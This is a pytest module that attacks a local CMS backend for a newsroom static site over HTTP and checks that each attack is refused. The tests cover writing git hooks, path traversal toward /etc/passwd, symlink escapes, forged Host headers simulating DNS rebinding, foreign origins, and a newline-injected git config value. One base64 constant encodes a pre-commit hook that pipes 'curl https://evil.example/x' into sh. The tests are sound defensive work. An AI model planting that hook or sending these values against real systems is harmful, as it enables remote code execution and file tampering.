"""The local backend of the browser admin as `invoke cms` runs it: the real command in a
subprocess against a temporary checkout, attacked over HTTP the way a local process or a web
page through DNS rebinding would. Every attack is refused and leaves the checkout as it was;
the admin's own saves and uploads still land."""

from __future__ import annotations

import base64
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from newsroom.servers import decap_server
from tests.support import PHOTO, REPO, Site, project_copy, story_text

pytestmark = pytest.mark.skipif(shutil.which("node") is None or not decap_server.SERVER.is_file(),
                                reason="decap-server needs Node.js and cms/node_modules (make build)")

PROTECTED = (".githooks/pre-commit", "tasks.py", "pelicanconf.py", ".git/config")
HOOK = base64.b64encode(b"#!/bin/sh\ncurl https://evil.example/x | sh\n").decode()


def free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@dataclass
class Cms:
    site: Site
    process: subprocess.Popen
    port: int
    backend_port: int
    key: str
    stderr: Path

    @property
    def origin(self) -> str:
        return f"http://localhost:{self.port}"

    def post(self, body: dict, *, path: str | None = None, host: str | None = None,
             origin: str | None = "preview", method: str = "POST") -> tuple[int, dict]:
        headers = {"Host": host or f"localhost:{self.backend_port}", "Content-Type": "application/json"}
        if origin:
            headers["Origin"] = self.origin if origin == "preview" else origin
        connection = http.client.HTTPConnection("127.0.0.1", self.backend_port, timeout=60)
        try:
            connection.request(method, path or f"/{self.key}/api/v1", body=json.dumps(body).encode(),
                               headers=headers)
            response = connection.getresponse()
            text = response.read().decode()
        finally:
            connection.close()
        return response.status, (json.loads(text) if text else {})

    def protected(self) -> dict[str, bytes]:
        files = {name: (self.site.root / name).read_bytes() for name in PROTECTED}
        files[".git/hooks/"] = "\n".join(sorted(p.name for p in (self.site.root / ".git/hooks").iterdir())).encode()
        return files


def _wait_for_line(path: Path, pattern: str, process: subprocess.Popen, seconds: float = 120) -> re.Match:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = re.search(pattern, path.read_text(encoding="utf-8"))
        if found:
            return found
        if process.poll() is not None:
            break
        time.sleep(0.1)
    pytest.fail(f"invoke cms did not print {pattern!r}: {path.read_text(encoding='utf-8')}")


@pytest.fixture(scope="module")
def cms(tmp_path_factory):
    root = project_copy(tmp_path_factory.mktemp("cms") / "redaktion")
    (root / "cms").symlink_to(REPO / "cms")  # decap-server and the admin's bundle (node_modules)
    shutil.copytree(REPO / ".githooks", root / ".githooks")
    site = Site(root)
    (root / ".gitignore").write_text("/cms\n/output/\n/.cache/\n/preview/\n/.output*\n__pycache__/\n")
    site.story("2026/radwege.md")
    site.commit("Start", "2026-11-20 09:00")
    port, backend_port = free_port(), free_port()
    stdout, stderr = root.parent / "stdout.txt", root.parent / "stderr.txt"
    with stdout.open("w") as out, stderr.open("w") as err:
        process = subprocess.Popen([sys.executable, "-m", "invoke", "cms", "--port", str(port),
                                    "--backend-port", str(backend_port)], cwd=root, stdout=out, stderr=err,
                                   env={**os.environ, "PYTHONUNBUFFERED": "1"})
    try:
        address = _wait_for_line(stdout, r"Redaktionsoberfläche: (\S+)", process).group(1)
        _wait_for_line(stdout, r"Vorschau: ", process)
        key = parse_qs(urlsplit(address).query)["schluessel"][0]
        yield Cms(site, process, port, backend_port, key, stderr)
    finally:
        process.send_signal(signal.SIGINT)  # Strg+C, as the editor stops it
        try:
            process.wait(timeout=60)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def _refused(cms: Cms, body: dict, **request) -> dict:
    before = cms.protected()
    status, answer = cms.post(body, **request)
    assert status == 403, (status, answer)
    assert answer["error"].startswith("Zugriff verweigert: "), answer
    assert cms.protected() == before
    return answer


def test_writing_the_pre_commit_hook_is_refused(cms):
    answer = _refused(cms, {"action": "persistMedia", "params": {
        "branch": "main", "asset": {"path": ".githooks/pre-commit", "content": HOOK, "encoding": "base64"},
        "options": {"commitMessage": "x"}}})
    assert "„.githooks/pre-commit“ ist kein erlaubter Pfad" in answer["error"]


def test_writing_into_git_hooks_is_refused(cms):
    _refused(cms, {"action": "persistEntry", "params": {
        "branch": "main", "dataFiles": [{"slug": "x", "path": ".git/hooks/post-commit", "raw": "#!/bin/sh\n"}],
        "assets": [], "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}})
    assert not (cms.site.root / ".git/hooks/post-commit").exists()


def test_writing_tasks_py_is_refused_also_as_an_asset_of_a_story(cms):
    story = {"slug": "ok", "path": "content/stories/2026/ok.md", "raw": story_text(id="0a0b0c0d0e0f")}
    for body in ({"dataFiles": [{"slug": "x", "path": "tasks.py", "raw": "import os\n"}], "assets": []},
                 {"dataFiles": [story], "assets": [{"path": "tasks.py", "content": HOOK, "encoding": "base64"}]},
                 {"entry": story | {"newPath": "tasks.py"}, "assets": []}):
        _refused(cms, {"action": "persistEntry", "params": {
            "branch": "main", **body, "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}})
    assert not (cms.site.content / "stories/2026/ok.md").exists()  # nothing of a refused request is written


def test_reading_git_config_is_refused(cms):
    for action, params in (("getEntry", {"path": ".git/config"}), ("getMediaFile", {"path": ".git/config"}),
                           ("entriesByFiles", {"files": [{"path": ".git/config"}]}),
                           ("entriesByFolder", {"folder": ".git", "extension": "", "depth": 1}),
                           ("getMedia", {"mediaFolder": ".git"})):
        answer = _refused(cms, {"action": action, "params": {"branch": "main", **params}})
        assert "[core]" not in json.dumps(answer)


def test_deleting_pelicanconf_is_refused(cms):
    for action, params in (("deleteFile", {"path": "pelicanconf.py"}), ("deleteFiles", {"paths": ["pelicanconf.py"]})):
        _refused(cms, {"action": action, "params": {"branch": "main", **params, "options": {"commitMessage": "x"}}})
    assert (cms.site.root / "pelicanconf.py").is_file()


@pytest.mark.parametrize("path", ["content/../tasks.py", "content/stories/../../tasks.py", "/etc/passwd",
                                  "content/stories/./x.md", "content/stories//x.md",
                                  "content/stories/..\\..\\tasks.py", "content/x.md", "content/media/x.jpg",
                                  "content/stories/.hidden.md"])
def test_paths_leaving_the_admins_folders_are_refused(cms, path):
    _refused(cms, {"action": "persistEntry", "params": {
        "branch": "main", "dataFiles": [{"slug": "x", "path": path, "raw": "x"}], "assets": [],
        "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}})


def test_a_link_inside_the_content_folders_leading_out_is_refused(cms):
    link = cms.site.content / "stories/link.md"
    link.symlink_to(cms.site.root / "tasks.py")
    folder_link = cms.site.content / "stories/linked"
    folder_link.symlink_to(cms.site.root / ".git", target_is_directory=True)
    try:
        _refused(cms, {"action": "persistEntry", "params": {
            "branch": "main", "dataFiles": [{"slug": "x", "path": "content/stories/link.md", "raw": "x"}],
            "assets": [], "options": {"commitMessage": "x", "useWorkflow": False, "status": "draft"}}})
        _refused(cms, {"action": "getEntry", "params": {"branch": "main", "path": "content/stories/linked/config"}})
        _refused(cms, {"action": "entriesByFolder", "params": {"branch": "main", "folder": "content/stories/linked",
                                                               "extension": "", "depth": 1}})
    finally:
        link.unlink()
        folder_link.unlink()


def test_a_request_without_the_key_or_with_another_is_refused(cms):
    read = {"action": "getEntry", "params": {"branch": "main", "path": "content/stories/2026/radwege.md"}}
    for path in ("/api/v1", "/api/v1/", f"/{cms.key[:-1]}/api/v1", f"/{cms.key}x/api/v1", f"/{cms.key}/api/v1?",
                 f"/x/{cms.key}/api/v1", f"/api/v1/{cms.key}"):
        answer = _refused(cms, read, path=path)
        assert "Schlüssel" in answer["error"], path
    assert cms.post(read)[0] == 200  # the same request with the key is answered


def test_a_forged_host_as_after_dns_rebinding_is_refused(cms):
    read = {"action": "getEntry", "params": {"branch": "main", "path": "content/stories/2026/radwege.md"}}
    for host in (f"evil.example:{cms.backend_port}", "localhost", f"localhost:{cms.backend_port + 1}",
                 f"127.0.0.1.evil.example:{cms.backend_port}"):
        answer = _refused(cms, read, host=host, origin=None)
        assert "localhost" in answer["error"], host
    for host in (f"localhost:{cms.backend_port}", f"127.0.0.1:{cms.backend_port}", f"[::1]:{cms.backend_port}"):
        assert cms.post(read, host=host)[0] == 200, host


def test_a_foreign_origin_is_refused_also_in_the_preflight(cms):
    read = {"action": "getEntry", "params": {"branch": "main", "path": "content/stories/2026/radwege.md"}}
    for origin in ("http://evil.example", f"http://evil.example:{cms.port}", f"http://localhost:{cms.backend_port}",
                   "null", f"https://localhost:{cms.port}"):
        _refused(cms, read, origin=origin)
        _refused(cms, read, origin=origin, method="OPTIONS")
    assert cms.post(read, method="OPTIONS")[0] == 204  # the preview itself may ask
    assert cms.post(read, origin=None)[0] == 200


def test_other_actions_methods_and_branches_are_refused(cms):
    _refused(cms, {"action": "runShell", "params": {"branch": "main"}})
    _refused(cms, {"action": "getEntry", "params": {"branch": "cms/x", "path": "content/stories/2026/radwege.md"}})
    _refused(cms, {"action": "publishUnpublishedEntry", "params": {"branch": "main", "collection": "stories",
                                                                   "slug": "../../main"}})
    _refused(cms, {"action": "updateUnpublishedEntryStatus", "params": {
        "branch": "main", "collection": "stories", "slug": "a", "newStatus": "x\n[core]\nhooksPath = /tmp"}})
    _refused(cms, {"action": "getEntry"}, method="GET")
    _refused(cms, ["getEntry"])


def test_a_story_save_and_a_media_upload_still_land(cms):
    text = story_text(id="b2c3d4e5f6a7", title="Neue Bänke")
    status, answer = cms.post({"action": "persistEntry", "params": {
        "branch": "main", "dataFiles": [{"slug": "baenke", "path": "content/stories/2026/baenke.md", "raw": text}],
        "assets": [], "options": {"commitMessage": "Neue Meldung", "useWorkflow": False, "status": "draft"}}})
    assert status == 200, answer
    assert (cms.site.content / "stories/2026/baenke.md").read_text(encoding="utf-8") == text
    status, answer = cms.post({"action": "persistMedia", "params": {
        "branch": "main", "asset": {"path": "content/media/fotos/bank.jpg", "content": base64.b64encode(PHOTO).decode(),
                                    "encoding": "base64"}, "options": {"commitMessage": "Foto"}}})
    assert status == 200 and answer["path"] == "content/media/fotos/bank.jpg", answer
    assert (cms.site.content / "media/fotos/bank.jpg").read_bytes() == PHOTO
    status, answer = cms.post({"action": "entriesByFolder", "params": {
        "branch": "main", "folder": "content/stories", "extension": "md", "depth": 3}})
    assert status == 200 and sorted(e["file"]["path"] for e in answer) == [
        "content/stories/2026/baenke.md", "content/stories/2026/radwege.md"]
    status, answer = cms.post({"action": "deleteFile", "params": {
        "branch": "main", "path": "content/media/fotos/bank.jpg", "options": {"commitMessage": "weg"}}})
    assert status == 200 and not (cms.site.content / "media/fotos/bank.jpg").exists()


def _listening_tcp_inodes() -> set[str]:
    inodes = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                inodes.add(fields[9])
    return inodes


def test_decap_server_itself_opens_no_tcp_port_and_the_terminal_never_shows_the_key_again(cms):
    node = [pid for pid in os.listdir("/proc") if pid.isdigit() and _is_decap_server(pid, cms.site.root)]
    assert len(node) == 1, node
    sockets = {os.readlink(f"/proc/{node[0]}/fd/{fd}")[8:-1] for fd in os.listdir(f"/proc/{node[0]}/fd")
               if os.readlink(f"/proc/{node[0]}/fd/{fd}").startswith("socket:")}
    assert sockets and not sockets & _listening_tcp_inodes()
    log = cms.stderr.read_text(encoding="utf-8")
    assert "Zugriff verweigert" in log and cms.key not in log  # refusals are reported, the key is not


def _is_decap_server(pid: str, root: Path) -> bool:
    try:
        command = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        return any(part.endswith(b"decap-server/dist/index.js") for part in command) and \
            os.readlink(f"/proc/{pid}/cwd") == str(root)
    except OSError:
        return False
